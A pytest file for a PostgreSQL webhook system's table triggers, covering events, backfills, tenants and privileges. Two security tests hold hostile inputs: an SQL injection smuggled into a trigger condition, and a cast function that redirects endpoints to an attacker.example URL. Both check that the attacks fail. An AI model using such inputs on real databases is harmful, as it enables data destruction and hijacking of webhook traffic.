"""Table triggers (sql/functions/triggers.sql): an application table's inserts, updates and deletes
queued as events through the gate in the writer's own transaction, with backfills and invoke."""

from __future__ import annotations

import json
import threading
from typing import Any

import psycopg
import pytest
from psycopg import sql

from tests.support import (
    LOGIN_PASSWORD,
    TEST_KEYRING,
    add_endpoint,
    login_as,
    query,
    wait_final,
)
from worker.localpg import role_dsn

ORDERS = ("CREATE TABLE public.orders (id bigint PRIMARY KEY, tenant text, status text, amount numeric,"
          " card_token text, note text)")


def add_trigger(db: str, name: str = "orders", on: tuple[str, ...] = ("insert", "update", "delete"),
                event_type: str = "order.changed", **options: Any) -> int:
    arguments = ", ".join(f"p_{key} => %({key})s" for key in options)
    return int(query(db, "SELECT webhooks.table_trigger_add(%(name)s, 'public.orders', %(on)s, %(type)s"
                         + (", " + arguments if arguments else "") + ")",
                     {"name": name, "on": list(on), "type": event_type, **options})[0][0])


def payloads(db: str, webhook_id: int | None = None) -> list[dict[str, Any]]:
    """The payloads queued, in delivery order (one endpoint's, or the first endpoint's copy of each)."""
    rows = query(db, "SELECT payload FROM webhooks.deliveries WHERE webhook_id = coalesce(%s, webhook_id)"
                     " ORDER BY delivery_id", (webhook_id,))
    return [r[0] for r in rows]


def plain_login(db: str, name: str) -> str:
    """A login role that belongs to no group of ours (an application's writer)."""
    with psycopg.connect(db, autocommit=True) as conn:
        conn.execute(sql.SQL("DO $$ BEGIN IF NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname = {name}) THEN"
                             " CREATE ROLE {role} LOGIN PASSWORD {password}; END IF;"
                             " EXCEPTION WHEN duplicate_object OR unique_violation THEN NULL; END $$").format(
            name=sql.Literal(name), role=sql.Identifier(name), password=sql.Literal(LOGIN_PASSWORD)))
    return role_dsn(db, name, LOGIN_PASSWORD)


def test_each_op_reaches_a_receiver_through_a_worker(db, receiver, spawn):
    endpoint = add_endpoint(db, receiver.url("/orders"), event_types=("order.*",))
    query(db, ORDERS)
    add_trigger(db, exclude_columns=["card_token"])
    with psycopg.connect(db, autocommit=True) as conn:
        conn.execute("INSERT INTO public.orders VALUES (7, 'default', 'new', 10, 'tok_secret', 'first')")
        conn.execute("UPDATE public.orders SET status = 'paid', amount = 12 WHERE id = 7")
        conn.execute("DELETE FROM public.orders WHERE id = 7")
    ids = [r[0] for r in query(db, "SELECT delivery_id FROM webhooks.alert_delivery_queue ORDER BY"
                                   " delivery_id")]
    assert len(ids) == 3
    spawn(db)
    wait_final(db, ids)
    bodies = [json.loads(r.body) for r in sorted(receiver.to("/orders"), key=lambda r: r.delivery_id)]
    table = {"schema": "public", "name": "orders"}
    row = {"id": 7, "tenant": "default", "status": "new", "amount": 10, "note": "first"}
    paid = {**row, "status": "paid", "amount": 12}
    assert bodies == [
        {"op": "insert", "table": table, "key": {"id": 7}, "old": None, "new": row, "changed": [],
         "trigger": "orders"},
        {"op": "update", "table": table, "key": {"id": 7}, "old": row, "new": paid,
         "changed": ["status", "amount"], "trigger": "orders"},
        {"op": "delete", "table": table, "key": {"id": 7}, "old": paid, "new": None, "changed": [],
         "trigger": "orders"},
    ]
    # one row's changes share its ordering key (one at a time, in order); each event its own id
    assert query(db, "SELECT DISTINCT ordering_key, event_type FROM webhooks.alert_delivery_queue") == [
        ("public.orders:7", "order.changed")]
    headers = [r.headers for r in sorted(receiver.to("/orders"), key=lambda r: r.delivery_id)]
    assert len({h["webhook-id"] for h in headers}) == 3
    assert query(db, "SELECT status FROM webhooks.alert_delivery_queue WHERE webhook_id = %s",
                 (endpoint,)) == [
        ("delivered",)] * 3


def test_an_update_fires_when_a_watched_column_changed_and_only_then(db):
    add_endpoint(db, "http://127.0.0.1:9/o", event_types=("order.*",))
    query(db, ORDERS)
    add_trigger(db, "status-only", on=("update",), columns=["status"])
    add_trigger(db, "any-column", on=("update",), event_type="order.touched", exclude_columns=["card_token"])
    query(db, "INSERT INTO public.orders VALUES (1, 'default', 'new', 10, 'tok', 'n')")
    query(db, "UPDATE public.orders SET amount = 11")         # unwatched by status-only
    query(db, "UPDATE public.orders SET card_token = 'tok2'")  # excluded: watched by neither
    query(db, "UPDATE public.orders SET amount = amount")     # nothing changed
    query(db, "UPDATE public.orders SET status = 'paid'")
    assert sorted((p["trigger"], p["changed"]) for p in payloads(db)) == [
        ("any-column", ["amount"]), ("any-column", ["status"]), ("status-only", ["status"])]


def test_excluded_columns_never_leave_the_database_in_any_op(db):
    add_endpoint(db, "http://127.0.0.1:9/o", event_types=("order.*",))
    query(db, ORDERS)
    add_trigger(db, exclude_columns=["card_token", "note"])
    query(db, "INSERT INTO public.orders VALUES (1, 'default', 'new', 10, 'tok_secret', 'note_secret')")
    query(db, "UPDATE public.orders SET status = 'paid', card_token = 'tok_secret2'")
    query(db, "SELECT webhooks.table_trigger_invoke('orders', '1')")
    [(operation,)] = query(db, "SELECT webhooks.table_trigger_backfill('orders')")
    assert query(db, "SELECT status FROM webhooks.api_replay_step(%s, 10)", (operation,)) == [("done",)]
    query(db, "DELETE FROM public.orders")
    assert [p["op"] for p in payloads(db)] == ["insert", "update", "manual", "backfill", "delete"]
    stored = query(db, "SELECT string_agg(payload::text || metadata::text || coalesce(source_ref, ''), ' ')"
                       " FROM webhooks.messages")[0][0]
    assert "secret" not in stored and "card_token" not in stored and "note" not in stored
    shown = query(db, "SELECT exclude_columns FROM webhooks.table_trigger_show('orders')")
    assert shown == [(["card_token", "note"],)]


def test_the_when_condition_filters_rows_on_the_row_the_statement_leaves(db):
    add_endpoint(db, "http://127.0.0.1:9/o", event_types=("order.*",))
    query(db, ORDERS)
    add_trigger(db, when="status <> 'draft' AND amount >= 10")
    query(db, "INSERT INTO public.orders (id, status, amount) VALUES (1, 'draft', 50), (2, 'new', 5), (3,"
              " 'new', 10)")
    query(db, "UPDATE public.orders SET status = 'paid' WHERE id IN (1, 2)")  # 1 meets it now, 2 does not
    query(db, "DELETE FROM public.orders WHERE id = 3")
    assert [(p["op"], p["key"]["id"]) for p in payloads(db)] == [("insert", 3), ("update", 1), ("delete", 3)]
    assert query(db, "SELECT when_condition FROM webhooks.table_trigger_show('orders')") == [
        ("((status <> 'draft'::text) AND (amount >= (10)::numeric))",)]


@pytest.mark.parametrize("condition, refused", [
    ("status = (SELECT max(name) FROM webhooks.endpoints)", "cannot use subquery"),
    ("now() > '2020-01-01'", "not immutable"),
    ("nosuch = 1", 'column "nosuch" does not exist'),
    ("amount", "boolean"),
    ("public.shout(status) = 'X'", "not PostgreSQL's own"),
])
def test_a_condition_is_a_boolean_expression_of_the_columns_with_postgresqls_own_functions(
        db, condition, refused):
    query(db, ORDERS)
    query(db, "CREATE FUNCTION public.shout(text) RETURNS text IMMUTABLE LANGUAGE sql AS 'SELECT upper($1)'")
    with pytest.raises(psycopg.Error) as error:
        add_trigger(db, when=condition)
    assert refused in str(error.value)
    assert query(db, "SELECT count(*) FROM webhooks.table_triggers") == [(0,)]


def test_what_a_condition_smuggles_runs_with_its_authors_rights_only(db):
    # the text is parsed as its author (who could run it by hand), never as the schema owner
    query(db, ORDERS)
    author = login_as(db, "webhooks_test_trigger_author", "webhooks_admin")
    query(db, "GRANT TRIGGER ON public.orders TO webhooks_test_trigger_author")
    endpoints = query(db, "SELECT count(*) FROM webhooks.endpoints")
    add_endpoint(db, "http://127.0.0.1:9/o", event_types=("order.*",))
    refused = pytest.raises(psycopg.errors.InsufficientPrivilege)
    with psycopg.connect(author, autocommit=True) as conn, refused:
        conn.execute("SELECT webhooks.table_trigger_add('sneaky', 'public.orders', ARRAY['insert'],"
                     " 'order.x',"
                     " p_when => 'true)) STORED; DELETE FROM webhooks.endpoints; --')")
    assert query(db, "SELECT count(*) FROM webhooks.endpoints") == [(endpoints[0][0] + 1,)]


def test_a_rolled_back_transaction_queues_nothing(db):
    add_endpoint(db, "http://127.0.0.1:9/o", event_types=("order.*",))
    query(db, ORDERS)
    add_trigger(db)
    with psycopg.connect(db) as conn:
        conn.execute("INSERT INTO public.orders (id, status) VALUES (1, 'new'), (2, 'new')")
        conn.execute("UPDATE public.orders SET status = 'paid'")
        assert conn.execute("SELECT count(*) FROM webhooks.alert_delivery_queue").fetchone() == (4,)
        conn.rollback()
    assert query(db, "SELECT count(*) FROM webhooks.alert_delivery_queue") == [(0,)]
    assert query(db, "SELECT count(*) FROM webhooks.messages") == [(0,)]


def test_a_write_retried_in_its_transaction_queues_nothing_twice(db):
    add_endpoint(db, "http://127.0.0.1:9/o", event_types=("order.*",))
    query(db, ORDERS)
    add_trigger(db)
    with psycopg.connect(db) as conn:
        # an application that retries a statement from its savepoint
        conn.execute("SAVEPOINT attempt")
        conn.execute("INSERT INTO public.orders (id, status) VALUES (1, 'new')")
        conn.execute("ROLLBACK TO SAVEPOINT attempt")
        conn.execute("INSERT INTO public.orders (id, status) VALUES (1, 'new')")
        conn.execute("SAVEPOINT attempt")
        conn.execute("UPDATE public.orders SET status = 'paid'")
        conn.execute("ROLLBACK TO SAVEPOINT attempt")
        conn.execute("UPDATE public.orders SET status = 'paid'")
        # the same change made again changes nothing: no event
        conn.execute("UPDATE public.orders SET status = 'paid'")
        txid = conn.execute("SELECT pg_current_xact_id()::text").fetchone()[0]
        trigger = conn.execute("SELECT id FROM webhooks.table_trigger_show('orders')").fetchone()[0]
        conn.commit()
    # the event id is the transaction's, the trigger's, the op's, the row's and its change's
    queued = query(db, "SELECT event_id, payload ->> 'op' FROM webhooks.deliveries ORDER BY delivery_id")
    assert queued == query(
        db, "SELECT 'evt_' || md5(%s || (payload ->> 'op') || ':1:' || md5(payload::text)), payload ->> 'op'"
            " FROM webhooks.deliveries ORDER BY delivery_id", (f"{txid}:{trigger}:",))
    assert [op for _, op in queued] == ["insert", "update"]


def test_every_other_change_of_a_row_in_one_transaction_is_its_own_event(db):
    add_endpoint(db, "http://127.0.0.1:9/o", event_types=("order.*",))
    query(db, ORDERS)
    add_trigger(db)
    with psycopg.connect(db) as conn:
        conn.execute("INSERT INTO public.orders (id, status) VALUES (1, 'new')")
        conn.execute("UPDATE public.orders SET status = 'paid'")
        conn.execute("UPDATE public.orders SET status = 'shipped'")
        conn.execute("DELETE FROM public.orders")
        conn.execute("INSERT INTO public.orders (id, status) VALUES (1, 'again')")
        conn.commit()
    assert query(db, "SELECT payload ->> 'op', payload -> 'old' ->> 'status', payload -> 'new' ->> 'status',"
                     " ordering_key FROM webhooks.deliveries ORDER BY delivery_id") == [
        ("insert", None, "new", "public.orders:1"), ("update", "new", "paid", "public.orders:1"),
        ("update", "paid", "shipped", "public.orders:1"), ("delete", "shipped", None, "public.orders:1"),
        ("insert", None, "again", "public.orders:1")]
    assert query(db, "SELECT count(DISTINCT event_id) FROM webhooks.deliveries") == [(5,)]


def test_a_statement_of_many_rows_queues_them_in_one_call_of_the_gate(db):
    endpoints = [add_endpoint(db, f"http://127.0.0.1:9/{i}", event_types=("order.*",)) for i in range(2)]
    query(db, ORDERS)
    add_trigger(db)
    rows = 5000
    with psycopg.connect(db) as conn:
        conn.execute("SET track_functions = 'all'")
        conn.execute("INSERT INTO public.orders (id, status, amount)"
                     " SELECT n, 'new', n FROM generate_series(1, %s) n", (rows,))
        calls = dict(conn.execute("SELECT funcname, calls FROM pg_stat_xact_user_functions"
                                  " WHERE funcname IN ('queue_deliveries', 'table_trigger_fire')").fetchall())
        conn.commit()
    assert calls == {"queue_deliveries": 1, "table_trigger_fire": 1}
    assert query(db, "SELECT webhook_id, count(*), count(DISTINCT event_id), count(DISTINCT ordering_key)"
                     " FROM webhooks.alert_delivery_queue GROUP BY 1 ORDER BY 1") == [
        (e, rows, rows, rows) for e in endpoints]
    # a fan-out stores each row's payload once
    assert query(db, "SELECT count(*) FROM webhooks.messages") == [(rows,)]


def test_a_backfill_killed_half_way_resumes_and_queues_each_row_once(db):
    add_endpoint(db, "http://127.0.0.1:9/o", event_types=("order.*",))
    query(db, ORDERS)
    query(db, "INSERT INTO public.orders (id, status, amount) SELECT n, CASE WHEN n % 3 = 0 THEN 'old' ELSE"
              " 'new' END,"
              " n FROM generate_series(1, 100) n")
    add_trigger(db, on=("insert",))
    [(operation,)] = query(db, "SELECT webhooks.table_trigger_backfill('orders', p_where => 'status ="
                               " ''new''')")
    assert query(db, "SELECT status, processed FROM webhooks.api_replay_step(%s, 30)", (operation,)) == [
        ("running", 20)]
    # a step killed before it commits leaves the backfill where it was
    with psycopg.connect(db) as victim:
        pid = victim.execute("SELECT pg_backend_pid()").fetchone()[0]
        victim.execute("SELECT * FROM webhooks.api_replay_step(%s, 30)", (operation,))
        query(db, "SELECT pg_terminate_backend(%s)", (pid,))
        with pytest.raises(psycopg.OperationalError):
            victim.execute("SELECT 1")
    assert query(db, "SELECT processed, scanned, position FROM webhooks.api_operations WHERE id = %s",
                 (operation,)) == [(20, 30, ["30"])]
    seen = []
    while True:
        stepped = query(db, "SELECT status, processed FROM webhooks.api_replay_step(%s, 30)", (operation,))
        seen.append(stepped[0][0])
        if stepped[0][0] != "running":
            break
    assert seen == ["running", "running", "done"]
    assert query(db, "SELECT status, processed, scanned FROM webhooks.api_operations WHERE id = %s",
                 (operation,)) == [("done", 67, 100)]
    keys = [p["key"]["id"] for p in payloads(db)]
    assert sorted(keys) == [n for n in range(1, 101) if n % 3]
    assert {p["op"] for p in payloads(db)} == {"backfill"}
    # and the list shows its progress
    assert query(db, "SELECT backfill_id, backfill_status, backfill_processed, backfill_scanned"
                     " FROM webhooks.table_trigger_list()") == [(operation, "done", 67, 100)]


def test_a_page_read_again_queues_nothing_twice_and_a_cancelled_backfill_stops(db):
    add_endpoint(db, "http://127.0.0.1:9/o", event_types=("order.*",))
    query(db, ORDERS)
    query(db, "INSERT INTO public.orders (id, status) SELECT n, 'new' FROM generate_series(1, 50) n")
    add_trigger(db, on=("insert",))
    [(operation,)] = query(db, "SELECT webhooks.table_trigger_backfill('orders', p_rate => 1000)")
    query(db, "SELECT * FROM webhooks.api_replay_step(%s, 10)", (operation,))
    # the same page again (as if its position had not been recorded): its event ids are the same
    query(db, "UPDATE webhooks.api_operations SET position = NULL, next_step_at = now() WHERE id = %s",
          (operation,))
    query(db, "SELECT * FROM webhooks.api_replay_step(%s, 10)", (operation,))
    assert query(db, "SELECT count(*), count(DISTINCT event_id) FROM webhooks.alert_delivery_queue") == [
        (10, 10)]
    with psycopg.connect(db, autocommit=True) as conn:
        conn.execute("UPDATE webhooks.api_operations SET next_step_at = now() WHERE id = %s", (operation,))
        assert conn.execute("SELECT webhooks.api_cancel_operation(%s, 'ops')", (operation,)).fetchone() == (
            "cancelled",)
    assert query(db, "SELECT * FROM webhooks.api_replay_step(%s, 10)", (operation,)) == []
    assert query(db, "SELECT count(*) FROM webhooks.alert_delivery_queue") == [(10,)]
    # one backfill at a time per trigger; a new one may start once that one ended
    [(again,)] = query(db, "SELECT webhooks.table_trigger_backfill('orders')")
    with pytest.raises(psycopg.errors.ObjectInUse, match=f"backfill {again} is running"):
        query(db, "SELECT webhooks.table_trigger_backfill('orders')")


def test_invoke_queues_one_row_now_as_manual(db):
    endpoint = add_endpoint(db, "http://127.0.0.1:9/o", event_types=("order.*",))
    query(db, ORDERS)
    query(db, "INSERT INTO public.orders (id, status) VALUES (42, 'draft')")
    add_trigger(db, when="status <> 'draft'")
    assert query(db, "SELECT webhooks.table_trigger_invoke('orders', '42')") == [(1,)]
    [payload] = payloads(db, endpoint)
    assert (payload["op"], payload["new"]["status"], payload["old"]) == ("manual", "draft", None)
    with pytest.raises(psycopg.errors.NoDataFound, match=r"public\.orders has no row with key"):
        query(db, "SELECT webhooks.table_trigger_invoke('orders', '43')")
    with pytest.raises(psycopg.errors.InvalidParameterValue, match="key"):
        query(db, "SELECT webhooks.table_trigger_invoke('orders', 'forty-two')")


def test_a_column_added_dropped_and_renamed_keeps_the_trigger_working(db):
    add_endpoint(db, "http://127.0.0.1:9/o", event_types=("order.*",))
    query(db, ORDERS)
    add_trigger(db, columns=["status"], exclude_columns=["card_token"], when="amount > 0")
    query(db, "ALTER TABLE public.orders RENAME COLUMN status TO state")
    query(db, "ALTER TABLE public.orders RENAME COLUMN amount TO total")
    query(db, "ALTER TABLE public.orders RENAME COLUMN card_token TO token")
    query(db, "ALTER TABLE public.orders ADD COLUMN region text DEFAULT 'eu'")
    query(db, "ALTER TABLE public.orders DROP COLUMN note")
    query(db, "INSERT INTO public.orders (id, state, total, token) VALUES (1, 'new', 5, 'tok'), (2, 'new',"
              " 0, 'tok')")
    query(db, "UPDATE public.orders SET total = 6 WHERE id = 1")  # not watched
    query(db, "UPDATE public.orders SET state = 'paid'")  # watched under its new name
    assert [(p["op"], p["key"]["id"], p["new"], p["changed"]) for p in payloads(db)] == [
        ("insert", 1, {"id": 1, "tenant": None, "state": "new", "total": 5, "region": "eu"}, []),
        ("update", 1, {"id": 1, "tenant": None, "state": "paid", "total": 6, "region": "eu"}, ["state"])]
    assert query(db, "SELECT columns, exclude_columns, state FROM webhooks.table_trigger_show('orders')") == [
        (["state"], ["token"], "enabled")]
    # a column the condition reads, dropped: the rows are kept as dead letters that say so
    query(db, "ALTER TABLE public.orders DROP COLUMN total")
    query(db, "INSERT INTO public.orders (id, state) VALUES (3, 'new')")
    assert query(db, "SELECT status, failure_category, dead_letter_reason FROM webhooks.alert_delivery_queue"
                     " ORDER BY delivery_id DESC LIMIT 1") == [
        ("dead_letter", "internal",
         "table trigger orders: its when condition ((amount > (0)::numeric)) reads a column that was"
         " dropped: "
         "add the trigger again")]


def test_a_dropped_table_leaves_its_registration_listed_as_gone(db):
    query(db, ORDERS)
    add_trigger(db)
    assert query(db, "SELECT table_name, state FROM webhooks.table_trigger_list()") == [
        ("public.orders", "enabled")]
    query(db, "DROP TRIGGER webhooks_orders_update ON public.orders")
    assert query(db, "SELECT state FROM webhooks.table_trigger_list()") == [("trigger missing",)]
    query(db, "DROP TABLE public.orders")
    assert query(db, "SELECT table_name, state FROM webhooks.table_trigger_list()") == [
        ("public.orders", "table dropped")]
    assert query(db, "SELECT webhooks.table_trigger_drop('orders')") == [(True,)]
    assert query(db, "SELECT count(*) FROM webhooks.table_trigger_list()") == [(0,)]


def test_disable_enable_and_drop(db):
    add_endpoint(db, "http://127.0.0.1:9/o", event_types=("order.*",))
    query(db, ORDERS)
    add_trigger(db)
    assert query(db, "SELECT webhooks.table_trigger_disable('orders')") == [(True,)]
    query(db, "INSERT INTO public.orders (id) VALUES (1)")
    assert query(db, "SELECT webhooks.table_trigger_enable('orders')") == [(True,)]
    query(db, "INSERT INTO public.orders (id) VALUES (2)")
    assert [p["key"] for p in payloads(db)] == [{"id": 2}]
    assert query(db, "SELECT webhooks.table_trigger_drop('orders')") == [(True,)]
    assert query(db, "SELECT count(*) FROM pg_trigger WHERE tgrelid = 'public.orders'::regclass") == [(0,)]
    with pytest.raises(psycopg.errors.NoDataFound, match="no such table trigger"):
        query(db, "SELECT * FROM webhooks.table_trigger_show('orders')")


def test_adding_needs_the_tables_owner_or_its_trigger_privilege_and_writers_need_no_right_on_the_queue(db):
    endpoint = add_endpoint(db, "http://127.0.0.1:9/o", event_types=("order.*",))
    query(db, ORDERS)
    admin = login_as(db, "webhooks_test_trigger_admin", "webhooks_admin")
    with psycopg.connect(admin, autocommit=True) as conn, \
            pytest.raises(psycopg.errors.InsufficientPrivilege) as refused:
        conn.execute("SELECT webhooks.table_trigger_add('orders', 'public.orders', ARRAY['insert'],"
                     " 'order.changed')")
    assert refused.value.diag.message_primary == (
        "permission denied to add a table trigger to public.orders: the role webhooks_test_trigger_admin"
        " must own it or hold its TRIGGER privilege")
    assert refused.value.diag.message_hint == (
        "The table's owner can grant it: GRANT TRIGGER ON public.orders TO webhooks_test_trigger_admin")
    assert query(db, "SELECT count(*) FROM webhooks.table_triggers") == [(0,)]
    query(db, "GRANT TRIGGER ON public.orders TO webhooks_test_trigger_admin")
    with psycopg.connect(admin, autocommit=True) as conn:
        conn.execute("SELECT webhooks.table_trigger_add('orders', 'public.orders', ARRAY['insert'],"
                     " 'order.changed')")
        assert conn.execute("SELECT created_by FROM webhooks.table_trigger_show('orders')").fetchone() == (
            "webhooks_test_trigger_admin",)
    # the application writes with INSERT on its table and nothing of ours
    writer = plain_login(db, "webhooks_test_app_writer")
    query(db, "GRANT INSERT ON public.orders TO webhooks_test_app_writer")
    with psycopg.connect(writer, autocommit=True) as conn:
        conn.execute("INSERT INTO public.orders (id, status) VALUES (1, 'new')")
        with pytest.raises(psycopg.errors.InsufficientPrivilege):
            conn.execute("SELECT count(*) FROM webhooks.alert_delivery_queue")
    assert query(db, "SELECT webhook_id FROM webhooks.alert_delivery_queue") == [(endpoint,)]


def test_tenants_are_kept_apart_and_a_row_naming_no_known_tenant_is_a_dead_letter(db):
    acme = query(db, "SELECT webhooks.register_tenant('acme')")[0][0]
    globex = query(db, "SELECT webhooks.register_tenant('globex')")[0][0]
    hooks = {}
    for tenant, tenant_id in (("default", 1), ("acme", acme), ("globex", globex)):
        hooks[tenant] = add_endpoint(db, f"http://127.0.0.1:9/{tenant}", name=f"hook-{tenant}",
                                     event_types=("order.*",))
        query(db, "UPDATE webhooks.endpoints SET tenant_id = %s WHERE id = %s", (tenant_id, hooks[tenant]))
    query(db, ORDERS)
    add_trigger(db, tenant_column="tenant")
    query(db, "INSERT INTO public.orders (id, tenant) VALUES (1, 'acme'), (2, 'globex'), (3, NULL), (4,"
              " 'initech')")
    rows = query(db, "SELECT webhook_id, payload -> 'key' ->> 'id', status, failure_category,"
                     " dead_letter_reason"
                     " FROM webhooks.deliveries ORDER BY delivery_id")
    assert rows == [
        (hooks["acme"], "1", "pending", None, None),
        (hooks["globex"], "2", "pending", None, None),
        (hooks["default"], "3", "dead_letter", "unknown_tenant",
         "row public.orders (id)=(3) names no tenant (column tenant is null)"),
        (hooks["default"], "4", "dead_letter", "unknown_tenant",
         'row public.orders (id)=(4) names tenant "initech", which does not exist'),
    ]
    # a dead letter for a row of no known tenant carries the row's key, not the row
    assert payloads(db, hooks["default"])[0]["new"] is None
    # a fixed tenant; a tenant administrator sees its own tenant's triggers
    add_trigger(db, "acme-orders", on=("delete",), event_type="order.deleted", tenant="acme")
    query(db, "DELETE FROM public.orders WHERE id = 2")
    assert query(db, "SELECT webhook_id FROM webhooks.deliveries WHERE event_type = 'order.deleted'") == [
        (hooks["acme"],)]
    tenant_admin = login_as(db, "webhooks_test_trigger_tenant_admin", "webhooks_tenant_admin")
    with psycopg.connect(tenant_admin, autocommit=True) as conn:
        conn.execute("SELECT set_config('webhooks.tenant', %s, false)", (str(acme),))
        assert conn.execute("SELECT name, tenant FROM webhooks.table_trigger_list()").fetchall() == [
            ("acme-orders", "acme")]
        with pytest.raises(psycopg.errors.InsufficientPrivilege):
            conn.execute("SELECT webhooks.table_trigger_invoke('acme-orders', '1')")


def test_a_row_too_large_for_the_payload_limit_is_a_dead_letter_and_the_write_succeeds(db):
    endpoint = add_endpoint(db, "http://127.0.0.1:9/o", event_types=("order.*",))
    query(db, ORDERS)
    add_trigger(db)
    query(db, "UPDATE webhooks.delivery_config SET max_payload_bytes = 1024")
    query(db, "INSERT INTO public.orders (id, note) VALUES (1, repeat('x', 2000)), (2, 'small')")
    assert query(db, "SELECT count(*) FROM public.orders") == [(2,)]
    rows = query(db, "SELECT payload, status, failure_category, dead_letter_reason FROM webhooks.deliveries"
                     " WHERE webhook_id = %s ORDER BY delivery_id", (endpoint,))
    [(stub, status, category, reason), (small, pending, *_)] = rows
    assert (status, category, pending) == ("dead_letter", "too_large", "pending")
    assert reason.startswith("row public.orders (id)=(1): its payload is ") and reason.endswith(
        "bytes, over the limit of 1024 bytes")
    assert stub == {"op": "insert", "table": {"schema": "public", "name": "orders"}, "key": {"id": 1},
                    "old": None, "new": None, "changed": [], "trigger": "orders"}
    assert small["new"]["note"] == "small"


def test_a_cast_of_the_tables_owner_never_runs_as_the_schema_owner(db, receiver):
    # to_jsonb() calls a type's cast to json: the trigger, which runs as the schema owner, sends such a
    # column as its text instead
    endpoint = add_endpoint(db, receiver.url("/victim"), event_types=("mood.*",))
    owner = login_as(db, "webhooks_test_table_owner", "webhooks_admin")
    query(db, "CREATE SCHEMA app AUTHORIZATION webhooks_test_table_owner")
    with psycopg.connect(owner, autocommit=True) as conn:
        conn.execute("CREATE TYPE app.mood AS ENUM ('evil', 'calm')")
        conn.execute("CREATE FUNCTION app.mood_json(app.mood) RETURNS json LANGUAGE plpgsql AS $$ BEGIN"
                     " UPDATE webhooks.endpoints SET url = 'https://attacker.example/steal';"
                     " RETURN '{}'; END $$")
        conn.execute("CREATE CAST (app.mood AS json) WITH FUNCTION app.mood_json(app.mood)")
        conn.execute("CREATE TABLE app.moods (id int PRIMARY KEY, m app.mood, ms app.mood[])")
        conn.execute("SELECT webhooks.table_trigger_add('moods', 'app.moods', ARRAY['insert'],"
                     " 'mood.changed')")
        conn.execute("INSERT INTO app.moods VALUES (1, 'evil', '{calm,evil}')")
    assert [p["new"] for p in payloads(db)] == [{"id": 1, "m": "evil", "ms": "{calm,evil}"}]
    [(url,)] = query(db, "SELECT url FROM webhooks.endpoints WHERE id = %s", (endpoint,))
    assert TEST_KEYRING.open(url, "url", endpoint) == receiver.url("/victim")


def test_the_payloads_json_schema_is_in_the_catalogue_for_the_triggers_type(db):
    query(db, ORDERS)
    query(db, "SELECT webhooks.upsert_event_type('order.mine', 'mine', '{\"type\": \"object\"}')")
    add_trigger(db)
    add_trigger(db, "kept", event_type="order.mine")
    [(schema, description)] = query(db, "SELECT schema, description"
                                        " FROM webhooks.event_type('order.changed')")
    assert schema == query(db, "SELECT webhooks.table_trigger_payload_schema()")[0][0]
    assert schema["required"] == ["op", "table", "key", "old", "new", "changed", "trigger"]
    assert description == "A row of public.orders changed (table trigger orders)"
    # a type that has a schema of its own keeps it
    assert query(db, "SELECT schema FROM webhooks.event_type('order.mine')") == [({"type": "object"},)]


def test_concurrent_writers_each_queue_their_own_rows(db):
    add_endpoint(db, "http://127.0.0.1:9/o", event_types=("order.*",))
    query(db, ORDERS)
    add_trigger(db, on=("insert",))
    errors: list[BaseException] = []

    def write(start: int) -> None:
        try:
            with psycopg.connect(db, autocommit=True) as conn:
                for n in range(start, start + 50):
                    conn.execute("INSERT INTO public.orders (id) VALUES (%s)", (n,))
        except BaseException as error:  # noqa: BLE001 - reported below
            errors.append(error)

    threads = [threading.Thread(target=write, args=(start,)) for start in (1, 1001, 2001)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    assert query(db, "SELECT count(DISTINCT event_id) FROM webhooks.alert_delivery_queue") == [(150,)]


def test_a_key_of_several_columns_orders_invokes_and_backfills_by_all_of_them(db):
    add_endpoint(db, "http://127.0.0.1:9/o", event_types=("line.*",))
    query(db, "CREATE TABLE public.lines (order_id bigint, line smallint, sku text,"
              " PRIMARY KEY (order_id, line))")
    query(db, "SELECT webhooks.table_trigger_add('lines', 'public.lines', ARRAY['insert'], 'line.added')")
    query(db, "INSERT INTO public.lines VALUES (1, 1, 'a'), (1, 2, 'b'), (2, 1, 'c')")
    assert query(db, "SELECT payload -> 'key', ordering_key FROM webhooks.deliveries"
                     " ORDER BY delivery_id") == [
        ({"order_id": 1, "line": 1}, 'public.lines:{"line": 1, "order_id": 1}'),
        ({"order_id": 1, "line": 2}, 'public.lines:{"line": 2, "order_id": 1}'),
        ({"order_id": 2, "line": 1}, 'public.lines:{"line": 1, "order_id": 2}')]
    assert query(db, "SELECT webhooks.table_trigger_invoke('lines', '[1, 2]')") == [(1,)]
    with pytest.raises(psycopg.errors.InvalidParameterValue, match="give a JSON array of their values"):
        query(db, "SELECT webhooks.table_trigger_invoke('lines', '1')")
    [(operation,)] = query(db, "SELECT webhooks.table_trigger_backfill('lines')")
    assert query(db, "SELECT * FROM webhooks.api_replay_step(%s, 2)", (operation,)) == [("running", 2)]
    assert query(db, "SELECT position FROM webhooks.api_operations WHERE id = %s", (operation,)) == [
        (["1", "2"],)]
    assert query(db, "SELECT * FROM webhooks.api_replay_step(%s, 2)", (operation,)) == [("done", 3)]
    assert sorted(p["new"]["sku"] for p in payloads(db) if p["op"] == "backfill") == ["a", "b", "c"]


def test_readmes_trigger_for_each_statement_queues_a_statements_rows_in_one_call(db):
    endpoints = [add_endpoint(db, f"http://127.0.0.1:9/{i}", event_types=("alert.*",)) for i in range(2)]
    query(db, "CREATE TABLE public.alerts (id bigserial PRIMARY KEY, title text,"
              " kind text DEFAULT 'alert.created')")
    query(db, "CREATE TRIGGER alerts_webhooks AFTER INSERT ON public.alerts"
              " REFERENCING NEW TABLE AS webhooks_new FOR EACH STATEMENT"
              " EXECUTE FUNCTION webhooks.observer_queue_alert('column:kind', 'id')")
    with psycopg.connect(db) as conn:
        conn.execute("SET track_functions = 'all'")
        conn.execute("INSERT INTO public.alerts (title) SELECT 'alert ' || n FROM generate_series(1, 300) n")
        calls = dict(conn.execute("SELECT funcname, calls FROM pg_stat_xact_user_functions"
                                  " WHERE funcname IN ('queue_deliveries', 'publish', 'publish_many')"
                                  ).fetchall())
        conn.commit()
    assert calls == {"queue_deliveries": 1, "publish_many": 1}
    assert query(db, "SELECT webhook_id, count(*), count(DISTINCT event_id), min(event_type)"
                     " FROM webhooks.deliveries GROUP BY 1 ORDER BY 1") == [
        (e, 300, 300, "alert.created") for e in endpoints]
    # the key column makes the event id stable: the same row inserted again queues nothing
    query(db, "DELETE FROM public.alerts WHERE id = 1")
    query(db, "INSERT INTO public.alerts (id, title) VALUES (1, 'again')")
    assert query(db, "SELECT source_ref FROM webhooks.deliveries ORDER BY delivery_id LIMIT 1") == [
        ("alerts:1",)]
    assert query(db, "SELECT count(*) FROM webhooks.alert_delivery_queue") == [(600,)]
